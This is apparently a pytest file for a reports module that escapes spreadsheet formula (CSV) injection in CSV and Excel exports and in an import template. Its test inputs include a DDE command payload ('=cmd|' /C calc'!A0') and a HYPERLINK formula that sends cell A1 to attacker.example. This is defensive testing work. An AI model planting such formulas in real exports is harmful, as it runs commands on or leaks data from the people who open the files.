"""Exports neutralise text a spreadsheet would run as a formula (CSV injection)."""

import io

import numpy as np
import openpyxl
import pandas as pd

from reports.cells import csv_bytes, safe_cell, safe_frame


def test_formula_starts_get_an_apostrophe_and_nothing_else_changes():
    for text in ("=1+1", "+86 22 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("静海镇", "１=1", "a=b", "", 5, -3.5, None, np.nan):
        assert safe_cell(value) is value


def test_frames_keep_numbers_as_numbers():
    frame = pd.DataFrame({"名称": ["=cmd|' /C calc'!A0", "敬老院"], "床位": [-1, 20], "=列": ["@x", "y"]})
    out = safe_frame(frame)
    assert list(out.columns) == ["名称", "床位", "'=列"]
    assert out["名称"].tolist() == ["'=cmd|' /C calc'!A0", "敬老院"]
    assert out["床位"].tolist() == [-1, 20] and out["床位"].dtype == frame["床位"].dtype
    assert out["'=列"].tolist() == ["'@x", "y"]
    assert frame["名称"][0].startswith("=")  # the caller's frame is untouched


def test_csv_and_excel_read_back_as_text_not_formulas(tmp_path):
    frame = pd.DataFrame({"名称": ["=HYPERLINK(\"http://example.invalid\")", "普通"], "n": [1, 2]})
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig")
    assert back["名称"][0] == "'=HYPERLINK(\"http://example.invalid\")"
    path = tmp_path / "x.xlsx"
    safe_frame(frame).to_excel(path, index=False)
    cell = openpyxl.load_workbook(path)["Sheet1"]["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'=")


def test_a_blank_template_writes_a_township_named_like_a_formula_as_text():
    """Issue 26: a township called =HYPERLINK(…) (taken in by `import townships`) became a live formula in the
    facilities template's 选项 sheet. Every cell of every sheet is text or a number now."""
    import io

    from openpyxl import load_workbook

    from config import load_config
    from imports.kinds import FACILITY_FIELDS
    from reports.import_template import template_xlsx

    hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"点击")', "+1+2", "@SUM(1)", "-3+4", "静海镇"]
    wb = load_workbook(io.BytesIO(template_xlsx("facilities", FACILITY_FIELDS, load_config(), townships=hostile)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    options = [wb["选项"][f"B{i}"].value for i in range(1, 6)]
    assert options == ["'" + h for h in hostile[:4]] + ["静海镇"]
